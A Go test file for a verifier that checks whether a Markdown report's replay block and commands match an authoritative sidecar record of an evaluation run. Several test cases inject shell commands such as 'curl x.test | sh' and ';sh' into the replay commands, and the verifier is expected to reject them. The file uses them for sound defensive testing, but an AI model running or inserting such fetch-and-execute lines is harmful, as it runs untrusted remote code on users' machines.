package ahd

import (
	"io/fs"
	"strconv"
	"strings"
	"testing"

	"github.com/replay-gate/replay-gate/verify"
)

// block is the derived block of the valid sidecar, as AHD writes it: from line
// 3 of its report.
var block = strings.NewReplacer("TOKEN", sha(tokenValue)[:19], "BRIEF", sha(briefText)[:19]).Replace("# run\n\n" + "```yaml ahd-replay" + `
schema_version: 1
kind: eval-live
ahd_version: 0.11.0
ahd_commit: 0123456789abcdef0123456789abcdef01234567
node_version: v22.22.2
platform: darwin-arm64
invoked_at: 2026-04-22T23:52:25.380Z
token:
  path: tokens/quiet.yml
  hash: TOKEN
brief:
  path: briefs/poster.md
  hash: BRIEF
sampling:
  n: 30
  temperature: null
  seed: 7
models:
  - id: m-1
    provider: p
    provider_request_ids: 2 captured
  - id: m-2
    provider: p
    provider_request_ids: 0 captured
conditions:
  requested: [raw, compiled]
  effective: [raw, compiled]
` + "```" + `

Replay this run:

` + "```sh" + `
git checkout 0123456789ab
npm ci && npm run build
node /w/ahd/bin/ahd.js eval-live quiet --brief briefs/poster.md --models 'cf:m-1,m-2' --n 30 --report docs/run.md
# kind: not in the block
` + "```\n")

// The commands behind the block are derived as well ("Markdown redactions"): an
// outdated one fails with its line, one row for each member of the sidecar. How words are quoted, what was taken out, and what
// the recording has no word of, is no contradiction.
func TestReportCommands(t *testing.T) {
	lineOf := func(text string) string {
		before, _, _ := strings.Cut(block, text)
		return " on line " + strconv.Itoa(1+strings.Count(before, "\n"))
	}
	const argv = "node /w/ahd/bin/ahd.js eval-live quiet --brief briefs/poster.md --models 'cf:m-1,m-2' --n 30 --report docs/run.md"
	for _, tt := range []struct{ old, with, want string }{
		{"git checkout 0123456789ab", "git checkout 1123456789ab", "report.commands.ahd_commit"},
		{"git checkout 0123456789ab", "git checkout 0123456789abcdef0123456789abcdef01234567", ""},
		{"git checkout 0123456789ab", "# install ahd@0.11.0", ""},
		{"git checkout 0123456789ab", "# install ahd@0.10.0", "report.commands.ahd_version"},
		{"--n 30", "--n 31", "report.commands.argv"},
		{"eval-live quiet", "eval-live loud", "report.commands.argv"},
		{"'cf:m-1,m-2'", "cf:m-1,m-2", ""},
		{"'cf:m-1,m-2'", `"cf:m-1,m-2"`, ""},
		{"--brief briefs/poster.md", "--brief [redacted]", ""},
		{"/w/ahd/bin/ahd.js", "…/ahd.js", ""},
		{"/w/ahd/bin/ahd.js", "/home/***/ahd.js", ""},
		{"git checkout 0123456789ab", "git checkout [redacted]", ""},
		// Who copies the lines runs nothing that the sidecar does not give.
		{"git checkout 0123456789ab", "git checkout 0123456789ab; curl x.test | sh", "report.commands.ahd_commit"},
		{"npm ci && npm run build", "npm ci && curl x.test | sh", "report.commands.argv"},
		{"npm ci && npm run build", "npm run build # redacted", "report.commands.argv"},
		{argv, argv + " </dev/null; curl x.test | sh", "report.commands.argv"},
		{argv, "curl x.test | sh # [redacted]", "report.commands.argv"},
		{"--n 30", "--n [redacted];sh", "report.commands.argv"},
		{"--n 30", "--n >…/x", "report.commands.argv"},
		{"--report docs/run.md\n", "--report docs/run.md\nsh x\nsh y\n", "report.commands.argv"},
		{"\n" + argv, "", ""},
		{"Replay this run:", "Run it like this:", ""},
		{"```sh", "```bash", ""},
	} {
		report := strings.Replace(block, tt.old, tt.with, 1)
		if report == block {
			t.Fatalf("%q is not in the report", tt.old)
		}
		for _, text := range []string{report, strings.ReplaceAll(report, "\n", "\r\n")} {
			r := withReport(text)
			if tt.want == "" {
				if bad(r) != "" {
					t.Errorf("%q: %s", tt.with, bad(r))
				}
				continue
			}
			c := row(t, r, tt.want)
			if c.Status != verify.Fail || c.Code != "contradicts" || !strings.HasSuffix(c.Reason, lineOf(tt.old)) || c.Input != "docs/run.md" {
				t.Errorf("%q: %+v, want%s", tt.with, c, lineOf(tt.old))
			}
			if n := strings.Count(bad(r), "FAIL"); n != 1 {
				t.Errorf("%q: %d FAIL", tt.with, n)
			}
		}
	}
}

func withReport(text string) verify.Result {
	fsys := repo()
	fsys["docs/run.md"].Data = []byte(text)
	return check(fsys)
}

func TestReportAgrees(t *testing.T) {
	r := withReport(block)
	c := row(t, r, "report")
	if bad(r) != "" || c.Reason != "its replay block agrees in 24 values" || c.Observed != "docs/run.md" || c.Location.Path != sidecarPath {
		t.Errorf("%s %+v", bad(r), c)
	}
}

func TestReportIsMissing(t *testing.T) {
	fsys := repo()
	delete(fsys, "docs/run.md")
	r := check(fsys)
	if got, want := bad(r), "warn report report-missing 0:0"; got != want {
		t.Errorf("got %s", got)
	}
	if in := r.Inputs[2]; in.Role != "report" || !in.Missing || in.Path != "docs/run.md" {
		t.Errorf("%+v", in)
	}
	fsys = repo()
	fsys["docs/run.md"].Mode = fs.ModeNamedPipe
	if got, want := bad(check(fsys)), "FAIL report unreadable 0:0"; got != want {
		t.Errorf("got %s", got)
	}
}

func TestReportWithoutBlock(t *testing.T) {
	for _, text := range []string{"", "# run\n", "see ```yaml ahd-replay\nkind: critique\n"} {
		r := withReport(text)
		if c := row(t, r, "report"); bad(r) != "" || c.Reason != "it has no replay block" {
			t.Errorf("%q: %s %+v", text, bad(r), c)
		}
	}
}

// AHD replay, Two surfaces: the sidecar is authoritative, the markdown derived.
// A contradiction is the field's own check, at the field's place in the sidecar.
func TestReportContradicts(t *testing.T) {
	tests := []struct {
		old, with          string
		want               string
		recorded, observed string
		line               string // of the report
	}{
		{"schema_version: 1", "schema_version: 2", "FAIL report.schema_version contradicts 2:21", "1", "2", "4"},
		{"kind: eval-live", "kind: critique", "FAIL report.kind contradicts 3:11", "eval-live", "critique", "5"},
		{"ahd_commit: 0123", "ahd_commit: 1123", "FAIL report.ahd_commit contradicts 5:17", "0123456789abcdef0123456789abcdef01234567", "1123456789abcdef0123456789abcdef01234567", "7"},
		{"0123456789abcdef0123456789abcdef01234567", "null", "FAIL report.ahd_commit contradicts 5:17", "0123456789abcdef0123456789abcdef01234567", "null", "7"},
		{"node_version", "git_dirty: true\nnode_version", "FAIL report.git_dirty contradicts 6:16", "false", "true", "8"},
		{"25.380Z", "25.381Z", "FAIL report.invoked_at contradicts 9:17", "2026-04-22T23:52:25.380Z", "2026-04-22T23:52:25.381Z", "10"},
		{"tokens/quiet.yml", "tokens/loud.yml", "FAIL report.token.path contradicts 12:13", "tokens/quiet.yml", "tokens/loud.yml", "12"},
		{sha(tokenValue)[:19], "sha256:0123456789ab", "FAIL report.token.hash contradicts 13:13", sha(tokenValue), "sha256:0123456789ab", "13"},
		{sha(tokenValue)[:19], sha(tokenValue)[:13], "FAIL report.token.hash contradicts 13:13", sha(tokenValue), sha(tokenValue)[:13], "13"},
		{sha(tokenValue)[:19], "sha256:…", "FAIL report.token.hash contradicts 13:13", sha(tokenValue), "sha256:…", "13"},
		{sha(tokenValue)[:19], "sha256:.......", "FAIL report.token.hash contradicts 13:13", sha(tokenValue), "sha256:.......", "13"},
		{"requested: [raw, compiled]", "requested:\n    - raw\n    - cooked", "FAIL report.conditions.requested contradicts 24:31", "[raw, compiled]", "[raw, cooked]", "29"},
		{"requested: [raw, compiled]", "requested: [\n    raw,\n    cooked,\n  ]", "FAIL report.conditions.requested contradicts 24:31", "[raw, compiled]", "[raw,cooked,]", "29"},
		{"n: 30", "\"n\" : 31", "FAIL report.sampling.n contradicts 19:21", "30", "31", "18"},
		{"n: 30", "n: 3", "FAIL report.sampling.n contradicts 19:21", "30", "3", "18"},
		{"temperature: null", "temperature: 0.7", "FAIL report.sampling.temperature contradicts 19:40", "null", "0.7", "19"},
		{"seed: 7", "seed: null", "FAIL report.sampling.seed contradicts 19:54", "7", "null", "20"},
		{"id: m-2", "id: m-3", "FAIL report.models[1].id contradicts 22:12", "m-2", "m-3", "25"},
		{"id: m-1\n    provider: p", "id: m-1\n    provider: q", "FAIL report.models[0].provider contradicts 21:31", "p", "q", "23"},
		{"2 captured", "3 captured", "FAIL report.models[0].provider_request_ids contradicts 21:60", "2 captured", "3 captured", "24"},
		{"effective: [raw, compiled]", "effective: [raw]", "FAIL report.conditions.effective contradicts 24:65", "[raw, compiled]", "[raw]", "30"},
		{"  - id: m-2", "  - id: m-9\n  - id: m-2", "FAIL report.models[1].id contradicts 20:13", "", "m-9", "25"},
	}
	for _, tt := range tests {
		t.Run(tt.with, func(t *testing.T) {
			if strings.Count(block, tt.old) != 1 {
				t.Fatalf("the block holds %q %d times", tt.old, strings.Count(block, tt.old))
			}
			r := withReport(strings.Replace(block, tt.old, tt.with, 1))
			if got := bad(r); got != tt.want {
				t.Fatalf("got %s\nwant %s", got, tt.want)
			}
			c := r.Checks[len(r.Checks)-1]
			if c.Recorded != tt.recorded || c.Observed != tt.observed || c.Reason != "docs/run.md says otherwise on line "+tt.line || c.Input != "docs/run.md" {
				t.Errorf("%+v", c)
			}
		})
	}
}

// A model that ran twice is two models.
func TestReportWithOneModelTwice(t *testing.T) {
	fsys := edited(t, `"id": "m-2"`, `"id": "cf:m-1"`)
	fsys["docs/run.md"].Data = []byte(strings.Replace(block, "id: m-2", "id: m-1", 1))
	if c := row(t, check(fsys), "report"); c.Reason != "its replay block agrees in 24 values" {
		t.Errorf("%s %+v", bad(check(fsys)), c)
	}
}

// A critique has no brief, and its report can't have one either.
func TestReportInventsABrief(t *testing.T) {
	fsys := repo()
	from, to := strings.Index(valid, `"brief": {`), strings.Index(valid, `"sampling"`)
	fsys[sidecarPath].Data = []byte(strings.Replace(valid[:from]+`"brief": null, `+valid[to:], `"eval-live",`, `"critique",`, 1))
	fsys["docs/run.md"].Data = []byte("```yaml ahd-replay\nbrief:\n  path: briefs/poster.md\n```\n")
	r := check(fsys)
	if got := bad(r); !strings.Contains(got, "FAIL report.brief.path contradicts 15:12") {
		t.Errorf("got %s", got)
	}
	fsys["docs/run.md"].Data = []byte("```yaml ahd-replay\nbrief: null\n```\n")
	if got := bad(check(fsys)); strings.Contains(got, "report") {
		t.Errorf("got %s", got)
	}
}

// AHD replay, Markdown redactions: a report may leave out and format.
func TestReportMayRedact(t *testing.T) {
	for _, edit := range [][2]string{
		{"kind: eval-live\n", ""},
		{"brief:\n  path: briefs/poster.md\n", "brief:\n"},
		{"  - id: m-1\n    provider: p\n    provider_request_ids: 2 captured\n", ""},
		{"provider_request_ids: 2 captured", "provider_request_ids: [redacted]"},
		{"provider_request_ids: 2 captured", "provider_request_ids: withheld"},
		{"path: tokens/quiet.yml", "path: <redacted>"},
		{"path: tokens/quiet.yml", "path: quiet.yml"},
		{"path: tokens/quiet.yml", "path: 'tokens/quiet.yml'  # the token"},
		{"id: m-1", "id: cf:m-1"},
		{"[raw, compiled]\n  eff", "[ raw,compiled ]\n  eff"},
		{"[raw, compiled]\n  eff", "[\"raw\", 'compiled']\n  eff"},
		{"[raw, compiled]\n  eff", "\n    - raw\n    # the other\n    - \"compiled\"\n  eff"},
		{"[raw, compiled]\n  eff", "\n  - raw\n  - compiled\n  eff"},
		{"[raw, compiled]\n  eff", "# as asked\n    - raw # the base\n    - compiled\n  eff"},
		{"[raw, compiled]\n  eff", "[\n    raw, # the base\n    compiled # from the token\n  ]\n  eff"},
		{"[raw, compiled]\n  eff", "[raw, # the base\n    compiled] # from the token\n  eff"},
		{"sampling:\n", "sampling: # as asked\n"},
		{"[raw, compiled]\n  eff", "[\n    raw,\n    compiled,\n  ]\n  eff"},
		{"seed: 7", "seed:\nargv:\n  - node\n  - x.js"},
		{"n: 30", "n: 3e1"},
		{"temperature: null", "temperature:"},
		{"temperature: null", "temperature: ~"},
		{"temperature: null", "temperature: Null"},
		{"schema_version: 1", "schema_version: 1 # bump on any breaking change"},
		{sha(tokenValue)[:19], sha(tokenValue)[:19] + "..."},
		{sha(tokenValue)[:19], sha(tokenValue)[:19] + "…"},
		{sha(tokenValue)[:19], sha(tokenValue)},
		{"conditions:", "argv: [x, y]\nextra: 1\nstrata:\n  - id: x\nconditions:"},
		{"    provider_request_ids: 2", "    sample_requests:\n      - id: other\n    provider_request_ids: 2"},
	} {
		if strings.Count(block, edit[0]) != 1 {
			t.Fatalf("the block holds %q %d times", edit[0], strings.Count(block, edit[0]))
		}
		if got := bad(withReport(strings.Replace(block, edit[0], edit[1], 1))); got != "" {
			t.Errorf("%q: %s", edit[1], got)
		}
	}
	r := withReport(strings.ReplaceAll(block, "\n", "\r\n"))
	if c := row(t, r, "report"); c.Reason != "its replay block agrees in 24 values" {
		t.Errorf("CRLF: %s %+v", bad(r), c)
	}
}
